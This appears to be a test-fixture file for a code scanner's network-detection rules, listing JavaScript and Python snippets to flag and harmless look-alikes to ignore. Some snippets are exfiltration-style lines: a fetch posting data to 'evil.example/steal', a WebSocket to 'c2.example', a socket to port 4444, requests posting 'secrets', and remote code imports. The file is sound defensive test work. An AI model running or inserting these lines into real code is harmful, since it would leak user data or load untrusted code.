import { js, jsTrap, py, pyTrap, type Positive, type Trap } from './cases';

/** What `network` rules must find. */
export const positives: readonly Positive[] = [
  js('fetch("https://evil.example/steal", { method: "POST", body: data })', 'network/web-api', 'high'),
  js('await globalThis.fetch(url)', 'network/web-api', 'high'),
  js('const x = new XMLHttpRequest(); x.open("GET", u)', 'network/web-api', 'high'),
  js('const ws = new WebSocket("wss://c2.example")', 'network/web-api', 'high'),
  js('navigator.sendBeacon("/log", data)', 'network/web-api', 'high'),
  js('const f = fetch; f(u)', 'network/web-api', 'high'),
  js('const http = require("http"); http.get("http://x")', 'network/node-net', 'high'),
  js('import net from "net"; net.connect(4444, "10.0.0.1")', 'network/node-net', 'high'),
  js('require("dgram").createSocket("udp4")', 'network/node-net', 'high'),
  js('import https from "node:https"', 'network/import', 'high'),
  js('importScripts("https://cdn.example/x.js")', 'network/remote-code', 'high'),
  js('await import("https://cdn.example/mod.js")', 'network/remote-code', 'high'),
  py('import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)', 'network/client', 'high'),
  py('import urllib.request\nurllib.request.urlopen("http://x")', 'network/client', 'high'),
  py('from urllib.request import urlopen\nurlopen("http://x")', 'network/client', 'high'),
  py('import requests\nrequests.post("http://x", data=secrets)', 'network/client', 'high'),
  py('import http.client\nhttp.client.HTTPSConnection("x")', 'network/client', 'high'),
  py('import socket', 'network/import', 'high'),
  py('from urllib import request', 'network/import', 'high'),
  py('import requests as r', 'network/import', 'high'),
  py('from pyodide.http import pyfetch\nawait pyfetch("x")', 'network/client', 'high'),
];

/** What they must not: look-alikes, comments, strings. */
export const traps: readonly Trap[] = [
  jsTrap('const fetchData = () => cache.get("k"); fetchData(); api.fetch(); const socket = null;'),
  jsTrap('// fetch("https://x")\nconst s = "new WebSocket(u)";'),
  jsTrap('const url = new URL("https://example.com"); url.searchParams.get("q");'),
  pyTrap('from urllib.parse import quote, urlparse\nprint(quote("a b"), urlparse("http://x").netloc)'),
  pyTrap('import json\nrequest = {"a": 1}\nsocket_count = 2\nprint(json.dumps(request))'),
  pyTrap('# import socket\ns = "requests.get(url)"'),
];
